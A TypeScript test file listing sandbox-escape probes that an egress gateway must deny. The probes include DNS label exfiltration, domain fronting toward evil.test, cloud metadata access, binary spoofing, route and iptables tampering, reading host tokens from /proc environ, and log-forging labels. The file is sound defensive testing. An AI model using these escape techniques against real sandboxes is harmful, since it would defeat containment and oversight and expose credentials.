// The escape battery's network and privilege probes: one row per attempt, each with what must be seen.
// Scripts print ESCAPED when the attempt got through; the battery also checks the counting targets.
import type { EgressEvent } from '../../src/common/event.js';
import {
  curl,
  DNS_TYPE,
  dnsQuery,
  dnsRawLabels,
  dnsTwoTypes,
  icmpEcho,
  quicFromNode,
  rawToPort53,
  tcp6,
  udp6SendTo,
  udpSend,
  udpSendTo,
} from './scripts.js';

/** Where the battery's sandboxes and targets are. */
export interface ProbeContext {
  readonly bridgeIp: string;
  /** TCP and UDP port of the host target on the bridge IP. */
  readonly hostPort: number;
  readonly peerIp: string;
  readonly peerPort: number;
}

/** Counting targets that must see nothing. */
export type TargetName = 'upstream' | 'host' | 'resolver' | 'peer';

type Field = string | number | RegExp;

export interface EventExpect {
  readonly layer: EgressEvent['layer'];
  readonly action: EgressEvent['action'];
  readonly binary?: Field;
  readonly host?: Field;
  readonly ip?: Field;
  readonly port?: Field;
  readonly protocol?: EgressEvent['protocol'];
  readonly identity?: Field;
  readonly reason?: RegExp;
}

export interface Expect {
  readonly exitNonZero?: boolean;
  /** A gateway event that must be logged for the probe's sandbox. */
  readonly event?: EventExpect;
  /** Must not appear in the gateway's human log (gateway.log) once the event is logged. */
  readonly logNever?: RegExp;
  readonly reachedNothing: readonly TargetName[];
  /**
   * What the probe's own allowed connections reach (taken off the counting targets' totals), proven by `proof`
   * matching its output: without the proof the row fails, since the allowance could hide another row's hit.
   */
  readonly allowedReach?: { readonly target: TargetName; readonly count: number; readonly proof: RegExp };
}

export interface Probe {
  readonly name: string;
  /** Which prober sandbox runs it (`id`, `storm`: connect-time identity rows, kept apart from the rest). */
  readonly box: 'a' | 'b' | 'fs' | 'id' | 'storm';
  readonly script: (c: ProbeContext) => string;
  readonly expect: (c: ProbeContext) => Expect;
}

const CURL = '/usr/bin/curl';
const PYTHON = '/usr/bin/python3';
const EXFIL = 'c2VjcmV0LXRva2Vu';
const deny = (layer: EgressEvent['layer'], rest: Omit<EventExpect, 'layer' | 'action'>): EventExpect => ({
  layer,
  action: 'deny',
  ...rest,
});

/**
 * python3 (allowed to reach pypi.org) sends an HTTP head over a spliced transparent connection to pypi.org:443,
 * in the writes given (Python bytes literals, a pause between), one that names evil.test to the server while
 * the gateway reads pypi.org or no Host at all; ESCAPED when the upstream answers.
 */
const frontedHead = (writes: readonly string[]): string => `python3 - <<'EOF'
import socket, time
s = socket.create_connection(('pypi.org', 443), timeout=4); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for w in [${writes.join(', ')}]:
    s.sendall(w); time.sleep(0.3)
try:
    print('ESCAPED' if b'hello from upstream' in s.recv(200) else 'no answer')
except OSError as e:
    print('refused', e)
exit(1)
EOF`;

/** The refusal of a fronting attempt, with its reason (specific: rows of one box must not match each other's). */
const fronted = (reason: RegExp) => (): Expect => ({
  exitNonZero: true,
  event: deny('connect', { host: 'pypi.org', port: 443, reason }),
  reachedNothing: ['upstream'],
});

export const PROBES: readonly Probe[] = [
  {
    name: 'direct IP (TEST-NET)',
    box: 'a',
    script: () => curl('http://192.0.2.10:8080/'),
    expect: () => ({
      event: deny('connect', { binary: CURL, ip: '192.0.2.10', port: 8080 }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'hard-coded resolver over UDP',
    box: 'b',
    script: () => dnsQuery(`${EXFIL}.udp-resolver.test`, '203.0.113.53', DNS_TYPE.A, false),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.udp-resolver.test`, protocol: 'udp', binary: PYTHON }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'hard-coded resolver over TCP',
    box: 'a',
    script: () => dnsQuery(`${EXFIL}.tcp-resolver.test`, '203.0.113.53', DNS_TYPE.A, true),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.tcp-resolver.test`, protocol: 'tcp', binary: PYTHON }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: "Docker's embedded resolver 127.0.0.11 (UDP)",
    box: 'b',
    script: () => dnsQuery(`${EXFIL}.embedded-udp.test`, '127.0.0.11', DNS_TYPE.A, false),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.embedded-udp.test`, protocol: 'udp' }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: "Docker's embedded resolver 127.0.0.11 (TCP)",
    box: 'a',
    script: () => dnsQuery(`${EXFIL}.embedded-tcp.test`, '127.0.0.11', DNS_TYPE.A, true),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.embedded-tcp.test`, protocol: 'tcp', binary: PYTHON }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'DNS label exfiltration (plain)',
    box: 'b',
    script: (c) => dnsQuery(`${EXFIL}.label-exfil.test`, c.bridgeIp, DNS_TYPE.A, false),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.label-exfil.test`, reason: /not allowed/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'DNS label exfiltration under an allowed wildcard, then a connection to it',
    box: 'a',
    script: (c) =>
      `${dnsQuery(`${EXFIL}.exfil.githubcopilot.com`, c.bridgeIp, DNS_TYPE.A, false, false)}\n` +
      curl(`http://${EXFIL}.exfil.githubcopilot.com:443/`),
    expect: () => ({
      event: deny('connect', { host: `${EXFIL}.exfil.githubcopilot.com`, binary: CURL, port: 443 }),
      reachedNothing: ['resolver', 'upstream'],
    }),
  },
  {
    name: 'TXT query for an allowed name',
    box: 'b',
    script: (c) => dnsQuery('api.anthropic.com', c.bridgeIp, DNS_TYPE.TXT, false),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: 'api.anthropic.com', reason: /TXT/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'ANY query for an allowed name',
    box: 'a',
    script: (c) => dnsQuery('api.anthropic.com', c.bridgeIp, DNS_TYPE.ANY, true),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: 'api.anthropic.com', reason: /ANY/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'AAAA-only label exfiltration (denied name)',
    box: 'b',
    script: (c) => dnsQuery(`${EXFIL}.aaaa-exfil.test`, c.bridgeIp, DNS_TYPE.AAAA, false),
    expect: () => ({
      exitNonZero: true,
      event: deny('dns', { host: `${EXFIL}.aaaa-exfil.test` }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'UDP to a TEST-NET address',
    box: 'a',
    script: () => udpSend('198.51.100.9', 9999),
    expect: () => ({
      exitNonZero: true,
      event: deny('udp', { ip: '198.51.100.9', port: 9999, binary: PYTHON }),
      reachedNothing: [],
    }),
  },
  {
    name: 'UDP sendto from an unconnected socket (logged with its destination)',
    box: 'a',
    script: () => udpSendTo('198.51.100.10', 9997),
    expect: () => ({
      exitNonZero: true,
      event: deny('udp', { ip: '198.51.100.10', port: 9997, binary: PYTHON }),
      reachedNothing: [],
    }),
  },
  {
    name: 'UDP sendto, socket closed at once (logged with its destination)',
    box: 'b',
    script: () => udpSendTo('198.51.100.11', 9996, true),
    expect: () => ({
      exitNonZero: true,
      event: deny('udp', { ip: '198.51.100.11', port: 9996 }),
      reachedNothing: [],
    }),
  },
  {
    name: 'ICMP echo (ping socket) to a TEST-NET address',
    box: 'a',
    script: () => icmpEcho('192.0.2.123'),
    expect: () => ({
      exitNonZero: true,
      event: deny('connect', { protocol: 'icmp', ip: '192.0.2.123' }),
      reachedNothing: [],
    }),
  },
  {
    name: "ICMP echo to the host's bridge IP",
    box: 'b',
    script: (c) => icmpEcho(c.bridgeIp),
    expect: (c) => ({
      exitNonZero: true,
      event: deny('connect', { protocol: 'icmp', ip: c.bridgeIp }),
      reachedNothing: [],
    }),
  },
  {
    name: 'QUIC-style UDP/443 to an allowed host, from node',
    box: 'b',
    script: () => quicFromNode('api.anthropic.com'),
    expect: () => ({
      exitNonZero: true,
      event: deny('udp', { ip: /^198\.1[89]\./, port: 443, binary: '/usr/bin/node' }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'IPv6 global address',
    box: 'a',
    script: () => tcp6('2001:db8::1', 80),
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
  {
    name: 'IPv6 loopback',
    box: 'b',
    script: () => tcp6('::1', 443),
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
  {
    name: 'IPv4-mapped IPv6 address (::ffff:192.0.2.77)',
    box: 'a',
    script: () => tcp6('::ffff:192.0.2.77', 80),
    expect: () => ({
      exitNonZero: true,
      event: deny('connect', { ip: '192.0.2.77', port: 80, binary: PYTHON }),
      reachedNothing: [],
    }),
  },
  {
    name: 'UDP from an AF_INET6 socket (sendto ::ffff:198.51.100.9)',
    box: 'b',
    script: () => udp6SendTo('198.51.100.9', 9998),
    expect: () => ({
      event: deny('udp', { ip: '198.51.100.9', port: 9998, binary: PYTHON }),
      reachedNothing: [],
    }),
  },
  {
    name: 'bytes that are not DNS to port 53 over UDP',
    box: 'a',
    script: () => rawToPort53(`b'GET / HTTP/1.0\\r\\n\\r\\n'`, false),
    expect: () => ({
      event: deny('dns', { protocol: 'udp', binary: PYTHON, reason: /not a DNS message/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'bytes that are not DNS to port 53 over TCP',
    box: 'b',
    script: () => rawToPort53(`b'\\x00' * 3`, true),
    expect: () => ({
      event: deny('dns', { protocol: 'tcp', binary: PYTHON, reason: /not a DNS message/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'a malformed DNS query (no question) to port 53',
    box: 'a',
    script: () => rawToPort53(`struct.pack('>HHHHHH', 0x4444, 0x0100, 0, 0, 0, 0)`, false),
    expect: () => ({
      event: deny('dns', { protocol: 'udp', binary: PYTHON, reason: /malformed DNS query/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'a TXT query right after an A query for the same denied name',
    box: 'b',
    script: () => dnsTwoTypes(`${EXFIL}.two-types.test`),
    expect: () => ({
      event: deny('dns', { host: `${EXFIL}.two-types.test`, reason: /TXT/ }),
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: 'a DNS label with a newline and a terminal escape (log forging)',
    box: 'a',
    script: () => dnsRawLabels([`b'x\\nFORGED ALLOWED'`, `b'\\x1b[2J'`, `b'forge'`, `b'test'`]),
    expect: () => ({
      event: deny('dns', { host: /forge\.test$/, binary: PYTHON }),
      logNever: /^FORGED|\u001b/m,
      reachedNothing: ['resolver'],
    }),
  },
  {
    name: "the host's other TCP port on the bridge IP",
    box: 'b',
    script: (c) => curl(`http://${c.bridgeIp}:${c.hostPort}/`),
    expect: (c) => ({
      event: deny('connect', { ip: c.bridgeIp, port: c.hostPort, binary: CURL }),
      reachedNothing: ['host'],
    }),
  },
  {
    name: "the host's UDP port on the bridge IP",
    box: 'a',
    script: (c) => udpSend(c.bridgeIp, c.hostPort),
    expect: (c) => ({
      exitNonZero: true,
      event: deny('udp', { ip: c.bridgeIp, port: c.hostPort }),
      reachedNothing: ['host'],
    }),
  },
  {
    name: "another sandbox's IP (TCP)",
    box: 'b',
    script: (c) => curl(`http://${c.peerIp}:${c.peerPort}/`),
    expect: (c) => ({
      event: deny('connect', { ip: c.peerIp, port: c.peerPort, binary: CURL }),
      reachedNothing: ['peer'],
    }),
  },
  {
    name: "another sandbox's IP (UDP)",
    box: 'a',
    script: (c) => udpSend(c.peerIp, c.peerPort),
    expect: (c) => ({
      exitNonZero: true,
      event: deny('udp', { ip: c.peerIp, port: c.peerPort }),
      reachedNothing: ['peer'],
    }),
  },
  {
    name: 'cloud metadata 169.254.169.254',
    box: 'b',
    script: () => curl('http://169.254.169.254/latest/meta-data/'),
    expect: () => ({
      event: deny('connect', { ip: '169.254.169.254', port: 80, binary: CURL }),
      reachedNothing: [],
    }),
  },
  {
    name: 'proxy-env bypass (proxy variables unset)',
    box: 'a',
    script: () =>
      `unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy NO_PROXY no_proxy; ${curl('http://api.anthropic.com:443/', { proxy: true })}`,
    expect: () => ({
      event: deny('connect', { host: 'api.anthropic.com', port: 443, binary: CURL }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'allowed host through the explicit proxy, wrong binary',
    box: 'b',
    script: () => curl('http://api.openai.com:443/', { proxy: true }),
    expect: () => ({
      event: deny('http', { host: 'api.openai.com', port: 443, binary: CURL }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    // python3 may reach pypi.org; through the explicit proxy it asks for http://pypi.org:443/ with a Host header
    // naming another host. A transparent connection's first request must name its host, and so must each
    // request on a terminated connection; a plain-HTTP forward sent the Host as written: domain fronting
    // (a CDN in front of an allowed host routes by Host).
    name: 'domain fronting through the explicit proxy: a plain-HTTP forward to pypi.org whose Host names evil.test',
    box: 'b',
    script: () => `python3 - <<'EOF'
import os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
s = socket.create_connection((proxy.hostname, proxy.port), timeout=4)
s.sendall(b'GET http://pypi.org:443/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')
answer = s.recv(400)
print('ESCAPED' if b'hello from upstream' in answer else answer[:60])
exit(1)
EOF`,
    expect: () => ({
      exitNonZero: true,
      event: deny('http', {
        host: 'pypi.org',
        port: 443,
        binary: /^\/usr\/bin\/python3/,
        reason: /Host evil\.test/,
      }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    // The gateway reads the Host of a spliced connection's first chunk only: a head sent in two writes (the
    // request line, then the Host) had none to read, and went through as "another protocol".
    name: 'domain fronting on a spliced connection: the HTTP head in two writes, Host evil.test in the second',
    box: 'b',
    script: () =>
      frontedHead(["b'GET / HTTP/1.1\\r\\n'", "b'Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n'"]),
    expect: fronted(/HTTP Host evil\.test does not match pypi\.org/),
  },
  {
    // Servers skip empty lines before a request line (RFC 9112 2.2); the gateway's reading of a Host did not.
    name: 'domain fronting on a spliced connection: an empty line before the request line, Host blank.evil.test',
    box: 'b',
    script: () =>
      frontedHead(["b'\\r\\nGET / HTTP/1.1\\r\\nHost: blank.evil.test\\r\\nConnection: close\\r\\n\\r\\n'"]),
    expect: fronted(/HTTP Host blank\.evil\.test does not match pypi\.org/),
  },
  {
    // The gateway read the first Host only; a server may take the other, or the absolute-form target's.
    name: 'domain fronting on a spliced connection: Host pypi.org, then a second Host and an absolute target naming evil.test',
    box: 'b',
    script: () =>
      frontedHead([
        "b'GET http://evil.test/ HTTP/1.1\\r\\nHost: pypi.org\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'",
      ]),
    expect: fronted(/HTTP Host given 2 times \(pypi\.org, evil\.test\)/),
  },
  {
    // A TLS record whose version bytes are not 3.x (a first ClientHello's record version is to be ignored, RFC 8446
    // 5.1; Go's TLS server takes any below 0x1000) was not read as TLS, so its server name was never looked at.
    name: 'domain fronting on a spliced connection: a ClientHello naming evil.test in a record of version 2.1',
    box: 'b',
    script: () => `python3 - <<'EOF'
import socket, struct
def u16(n): return struct.pack('!H', n)
name = b'evil.test'
sni = b'\\x00\\x00' + u16(len(name) + 5) + u16(len(name) + 3) + b'\\x00' + u16(len(name)) + name
body = b'\\x03\\x03' + bytes(32) + b'\\x00' + u16(2) + b'\\x13\\x01' + b'\\x01\\x00' + u16(len(sni)) + sni
hs = b'\\x01\\x00' + u16(len(body)) + body
s = socket.create_connection(('pypi.org', 443), timeout=4)
s.sendall(b'\\x16\\x02\\x01' + u16(len(hs)) + hs)
try:
    print('ESCAPED' if b'hello from upstream' in s.recv(200) else 'no answer')
except OSError as e:
    print('refused', e)
exit(1)
EOF`,
    expect: fronted(/TLS server name evil\.test does not match pypi\.org/),
  },
  {
    // Only ten methods were known as the start of a head: a head of another method sent in two writes (the
    // request line, then the Host) went through as "another protocol" (7 Dec 2026).
    name: 'domain fronting on a spliced connection: a PROPFIND head in two writes, Host propfind.evil.test in the second',
    box: 'b',
    script: () =>
      frontedHead([
        "b'PROPFIND / HTTP/1.1\\r\\n'",
        "b'Host: propfind.evil.test\\r\\nConnection: close\\r\\n\\r\\n'",
      ]),
    expect: fronted(/HTTP Host propfind\.evil\.test does not match pypi\.org/),
  },
  {
    // A request line servers take (Python's http.server: blanks between the words) that the strict reading of a
    // Host did not: the head, Host evil.test and all, was spliced as "another protocol" (7 Dec 2026).
    name: 'domain fronting on a spliced connection: two spaces after the method, Host evil.test',
    box: 'b',
    script: () => frontedHead(["b'GET  / HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n'"]),
    expect: fronted(/an HTTP request line the gateway does not read/),
  },
  {
    // h2c with prior knowledge names its host in an HPACK-compressed HEADERS frame (here `:authority` as a
    // literal, the preface and an empty SETTINGS first), which the first-bytes check did not read.
    name: 'domain fronting on a spliced connection: cleartext HTTP/2 (h2c) with :authority evil.test',
    box: 'b',
    script: () =>
      frontedHead([
        "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes.fromhex('000000040000000000' '00000e0105000000018286844109') + b'evil.test'",
      ]),
    expect: fronted(/cleartext HTTP\/2 \(h2c\) on a connection allowed for pypi\.org/),
  },
  {
    name: 'binary spoofing: curl copied to /sandbox/node',
    box: 'a',
    script: () =>
      `cp /usr/bin/curl /sandbox/node && ${curl('http://api.anthropic.com:443/', { bin: '/sandbox/node' })}`,
    expect: () => ({
      event: deny('connect', { host: 'api.anthropic.com', port: 443, binary: '/sandbox/node' }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'binary spoofing through the proxy: curl copied to /sandbox/copilot/node',
    box: 'b',
    script: () =>
      'mkdir -p /sandbox/copilot && cp /usr/bin/curl /sandbox/copilot/node && ' +
      curl('http://api.githubcopilot.com:443/', { bin: '/sandbox/copilot/node', proxy: true }),
    expect: () => ({
      event: deny('http', { host: 'api.githubcopilot.com', binary: '/sandbox/copilot/node' }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'binary spoofing through the proxy: python3 copied to /sandbox/python3 (pypi.org allows /usr/bin/python3*)',
    box: 'a',
    script: () =>
      'cp /usr/bin/python3 /sandbox/python3 && /sandbox/python3 -c "' +
      "import urllib.request as u; u.urlopen(u.Request('http://pypi.org:443/'), timeout=4); print('ESCAPED')\"",
    expect: () => ({
      exitNonZero: true,
      event: deny('http', { host: 'pypi.org', port: 443, binary: '/sandbox/python3' }),
      reachedNothing: ['upstream'],
    }),
  },
  {
    name: 'binary spoofing: curl copied to /tmp/node (noexec)',
    box: 'b',
    script: () =>
      `cp /usr/bin/curl /tmp/node && ${curl('http://api.anthropic.com:443/', { bin: '/tmp/node' })}`,
    expect: () => ({ exitNonZero: true, reachedNothing: ['upstream'] }),
  },
  {
    name: 'changing the route from inside (ip route del default)',
    box: 'a',
    script: () =>
      "ip route del default && echo ESCAPED; ip route | grep -q '^default via' || echo ESCAPED; exit 1",
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
  {
    name: 'changing the fence from inside (iptables, raw socket, new user+net namespace)',
    box: 'b',
    script: () =>
      'command -v iptables >/dev/null && iptables -t nat -F && echo ESCAPED; ' +
      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print(\'ESCAPED\')"; ' +
      'unshare -Urn true && echo ESCAPED; ip link set eth0 down && echo ESCAPED; exit 1',
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
  {
    name: "reading the host's environment (GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN)",
    box: 'a',
    script: () =>
      "(env; tr '\\0' '\\n' </proc/1/environ; tr '\\0' '\\n' </proc/self/environ) | " +
      'grep -E "GITHUB_TOKEN|ACTIONS_|_never_inside" && echo ESCAPED; exit 1',
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
  {
    name: 'writing outside the read_write paths',
    box: 'b',
    script: () =>
      'for p in /usr/x /etc/x /x /var/x /opt/x /root/x /home/x /run/x /dev/shm/x /sys/fs/cgroup/x; do ' +
      'touch "$p" 2>/dev/null && echo "ESCAPED $p"; done; exit 1',
    expect: () => ({ exitNonZero: true, reachedNothing: [] }),
  },
];

/** Does an event match the expectation (exact fields, or a RegExp)? Names compare as the gateway logs them: lower case. */
export function eventMatches(e: EgressEvent, want: EventExpect): boolean {
  const same = (actual: unknown, field: Field | undefined) =>
    field === undefined || (field instanceof RegExp ? field.test(String(actual ?? '')) : actual === field);
  return (
    e.layer === want.layer &&
    e.action === want.action &&
    same(e.binary, want.binary) &&
    same(e.host, typeof want.host === 'string' ? want.host.toLowerCase() : want.host) &&
    same(e.ip, want.ip) &&
    same(e.port, want.port) &&
    same(e.protocol, want.protocol) &&
    same(e.identity, want.identity) &&
    same(e.reason, want.reason)
  );
}
